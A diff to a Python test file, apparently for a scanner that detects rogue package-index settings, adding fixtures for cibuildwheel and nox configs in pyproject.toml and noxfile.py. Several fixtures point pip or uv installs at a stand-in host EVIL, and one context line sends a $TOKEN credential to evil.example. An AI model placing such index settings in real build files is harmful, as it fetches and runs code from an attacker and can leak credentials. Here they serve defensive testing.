@@ -112,6 +112,17 @@ OPENED: dict[str, tuple[str, str | bytes, list[int]]] = {
     "pre-commit": (".pre-commit-config.yaml", f'x:\n  - "--extra-index-url={EVIL}"\n', [2]),
     "shell": ("build.sh", f"export PIP_FIND_LINKS={EVIL}\nif true; then uvx --from {EVIL}x.whl x; fi\n", [1, 2]),
     "user and password of a variable": ("build.sh", "pip install -i https://u:$TOKEN@evil.example/simple six\n", [1]),
+    "cibuildwheel table": (
+        "pyproject.toml",
+        f'[tool.cibuildwheel.linux]\nenvironment = {{ PIP_EXTRA_INDEX_URL = "{EVIL}" }}\n',
+        [2],
+    ),
+    "cibuildwheel string": (
+        "pyproject.toml",
+        f'[tool.cibuildwheel]\nenvironment = "A=b UV_INDEX={EVIL}"\nbefore-all = ["pip install -i {EVIL} x"]\n',
+        [2, 3],
+    ),
+    "nox": ("noxfile.py", f'import nox\n\ndef x(session):\n    session.install("-i", "{EVIL}", "six")\n', [4]),
     "pip.conf in the tree": ("docker/pip.conf", f"[global]\nextra-index-url = {EVIL}\n", [2]),
 }
 
@@ -167,6 +178,8 @@ CLEAN: dict[str, tuple[str, str]] = {
     ),
     "Dockerfile": ("Dockerfile", f"FROM python:3.11\nARG PIP_INDEX_URL\nENV A=b\nRUN pip install -i {MIRROR} .\n"),
     "a program": ("client.py", f'URL = "{EVIL}"\n# --index-url {EVIL}\n"""pip install -i {EVIL}"""\n'),
+    "nox": ("noxfile.py", f'URL = "{EVIL}"\ndef x(session):\n    session.install(".", "six")\n    session.run(URL)\n'),
+    "a lock among tests, of no project": ("tests/pylock/pylock.toml", 'lock-version = "9"\n'),
     "test data": ("tests/data/requirements.txt", f"-i {EVIL}\n"),
     "a nested environment": ("venv/lib/requirements.txt", f"-i {EVIL}\n"),
     "documentation": ("docs/install.md", f"pip install -i {EVIL} example\n"),
